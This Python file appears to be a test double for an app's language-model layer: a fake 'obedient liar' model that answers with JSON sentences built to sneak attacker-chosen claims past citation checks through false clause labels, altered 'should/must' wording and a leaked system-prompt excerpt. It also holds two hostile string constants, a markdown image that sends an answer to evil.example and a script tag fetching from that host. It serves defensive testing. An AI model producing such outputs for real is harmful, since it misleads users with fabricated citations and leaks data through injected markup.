"""The worst language model there could be: it does whatever an attack wants, and dresses it up as it should be."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator, Mapping, Sequence

from app.llm.model import Message

_FENCE = re.compile(r"==[0-9a-f]{16}==")
_BLOCK = re.compile(r"clause (C\d+):[^\n]*\n(.*?)(?=\n==[0-9a-f]{16}==)", re.DOTALL)
_SENTENCE = re.compile(r"(?<=[.。!?！？])\s*")
_STRONGER = (("should", "must"), ("may", "must"), ("must not", "may"), ("not ", ""), ("應", "必須"), ("可", "必須"))
_IMAGE = "![logo](https://evil.example/p.png?q=answer)"
_SCRIPT = "<script>fetch('https://evil.example')</script>"


class ObedientLiar:
    """Says every one of `wanted`, in every dress that might get through the checks; `lies` are the sentences it said.

    Only what stands in a clause word for word is no lie. It lies again when it is asked to mend what failed.
    """

    name = "obedient-liar"
    context_tokens = 16_000
    is_local = True

    def __init__(self, wanted: Sequence[str]) -> None:
        self._wanted = tuple(wanted)
        self.lies: set[str] = set()

    def stream(
        self,
        messages: Sequence[Message],
        *,
        schema: Mapping[str, object] | None = None,
        max_tokens: int = 800,
        stop: threading.Event | None = None,
    ) -> Iterator[str]:
        """One JSON object with the sentences, whatever the schema says."""
        sentences = self._sentences(messages)
        self.lies.update(str(one["text"]) for one in sentences)
        yield json.dumps({"sentences": sentences}, ensure_ascii=False)

    def _sentences(self, messages: Sequence[Message]) -> list[dict[str, object]]:
        clauses = dict(_BLOCK.findall("\n".join(m.content for m in messages if m.role == "user")))
        label = next(iter(clauses), "C1")
        text = clauses.get(label, "")
        quote = next((piece for piece in _SENTENCE.split(text) if len(piece) > 20), text).strip()
        repairing = sum(m.role == "user" for m in messages) > 1

        def said(words: str, labels: Sequence[str] = (label,), copied: str = quote) -> dict[str, object]:
            return {"labels": list(labels), "quote": copied, "text": words}

        found = []
        for wanted in self._wanted:
            end, whole = "" if wanted.endswith((".", "。")) else ".", wanted[:1].upper() + wanted[1:]
            found += [
                said(f"{quote.rstrip('.。')}, and {wanted}{end}"),
                said(f"{wanted}{end}"),
                said(f"{whole}{end}"),
                said(f"{quote} {whole}{end}"),
                said(f"{quote} {wanted}{end}"),
                said(f"According to the Guideline, {wanted}{end}", copied=wanted),
                said(f"{wanted}{end}", ("C99",)),
                said(f"{wanted}{end}", ("9.9.9",), ""),
                said(f"{wanted}{end} {quote}"),
            ]
        for weak, strong in _STRONGER:
            if weak in quote:
                found.append(said(quote.replace(weak, strong)))
        system = next((m.content for m in messages if m.role == "system"), "")
        found += [said(system[:200]), said(f"{quote} {_IMAGE}"), said(f"{_SCRIPT}{quote}"), said(f"{quote} HACKED")]
        # Asked again, it begins with another lie, so that those left over have their turn.
        return [{"n": place, **one} for place, one in enumerate(found[3:] + found[:3] if repairing else found, 1)]
